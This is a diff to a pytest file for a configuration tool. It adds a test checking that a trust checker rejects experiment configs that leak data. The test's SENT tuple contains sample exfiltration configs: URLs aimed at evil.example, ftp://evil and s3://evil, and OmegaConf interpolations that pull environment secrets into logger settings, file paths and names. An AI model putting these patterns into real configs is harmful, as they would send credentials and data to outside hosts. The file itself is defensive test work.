@@ -21,6 +21,7 @@ from omegaconf.errors import OmegaConfBaseException
 from kamerton.cli import main
 from kamerton.config.compose import compose_config, config_loader, plain, resolved
 from kamerton.config.foreign import Setting, foreign_settings, leaves
+from kamerton.config.secrets import named
 from kamerton.config.trust import Judged, check_trust
 
 Tree = dict[str, Any]
@@ -87,16 +88,16 @@ def _composed(*overrides: str) -> Any:
 
 def judge(tree: Tree, *overrides: str) -> list[str]:
     """The codes of the faults of a file with this content; of one that cannot be composed that."""
-    kept = {"hydra", "name", "data", "paths", "metrics", "debug_note", *tree}
+    kept = {"hydra", "name", "data", "paths", "logger", "metrics", "debug_note", *tree}
     try:
         config = OmegaConf.merge(OmegaConf.masked_copy(_composed(*overrides), list(kept)), tree)
         hydra = resolved(config.hydra)
         del config["hydra"]
-        values = plain(config)
+        values, by_name = plain(config), named(config)
     except OmegaConfBaseException:
         return ["config.compose"]
     settings = [Setting(path, value, "experiment/evil.yaml") for path, value in leaves(tree)]
-    return [fault.code for fault in check_trust(Judged(values, hydra, settings))]
+    return [fault.code for fault in check_trust(Judged(values, hydra, settings, by_name))]
 
 
 @pytest.mark.parametrize("way", WAYS)
@@ -136,6 +137,51 @@ KEYS = (
 def test_a_file_says_neither_where_files_go_nor_what_a_process_is_given(key: str) -> None:
     for word in WORDS:
         assert judge(_put(key, word), "sweep=lr_batch", "hydra/job_logging=default"), word
+
+
+def _logger(name: str, **more: Any) -> Tree:
+    return {"logger": {name: more}}
+
+
+EVIL = "https://evil.example/v1"
+OTHERS = "pytorch_lightning.loggers"
+SENT: tuple[Tree, ...] = (
+    {"model": {"base_url": EVIL}},
+    {"model": {"base_url": "http://127.0.0.1:9/v1"}},
+    {"model": {"base_url": "${debug_note}"}, "debug_note": EVIL},
+    {"model": {"key": "SECRET"}},
+    {"model": {"key": "${oc.decode:${debug_note}}"}, "debug_note": "SECRET"},
+    {"engine": {"url": EVIL}},
+    {"engine": {"key": "SECRET"}},
+    {"lm_eval": {"include": "tasks"}},
+    _logger("wandb", mode="online"),
+    _logger("wandb", mode=None),
+    _logger("wandb", entity="evil"),
+    _logger("wandb", settings={"base_url": EVIL}),
+    _logger("wandb", settings="${oc.create:{base_url:'https://evil.example'}}"),
+    _logger("second", _target_=f"{OTHERS}.WandbLogger", project="p"),
+    _logger("second", _target_=f"{OTHERS}.wandb.WandbLogger", mode="offline"),
+    _logger("second", _target_=f"{OTHERS}.MLFlowLogger", tracking_uri=EVIL),
+    _logger("second", _target_=f"{OTHERS}.TensorBoardLogger", save_dir="s3://evil/x"),
+    {"callbacks": {"x": {"_target_": f"{OTHERS}.CometLogger", "api_key": "${oc.env:SECRET}"}}},
+    {"callbacks": {"x": {"_target_": "pytorch_lightning.callbacks.ModelCheckpoint", "dirpath": "ftp://evil/x"}}},
+    {
+        "trainer": {"profiler": {"_target_": f"{OTHERS}.CSVLogger", "save_dir": "${paths.outputs}"}},
+        "paths": {"outputs": "ftp://evil/${oc.env:SECRET}"},
+    },
+    {"model": {"suffix": "${oc.env:SECRET}"}},
+    {"model": {"name": "${oc.${debug_note}:SECRET}"}, "debug_note": "env"},
+    {"name": "${oc.env:SECRET}"},  # W&B's group
+    {"logger": {"wandb": {"notes": "${debug_note}"}}, "debug_note": "${oc.env:SECRET}"},
+    {"data": {"path": "pypi://${oc.env:SECRET}==1/x.csv#sha256=0"}},
+)
+
+
+@pytest.mark.parametrize("tree", SENT, ids=str)
+def test_a_file_sends_no_secret_and_nothing_to_a_place_of_its_own(tree: Tree, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SECRET", "s3cr3t")
+    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
+    assert "config.trust" in judge(tree)
 
 
 SPACE = "tag(log, interval(1e-5, 1e-3))"
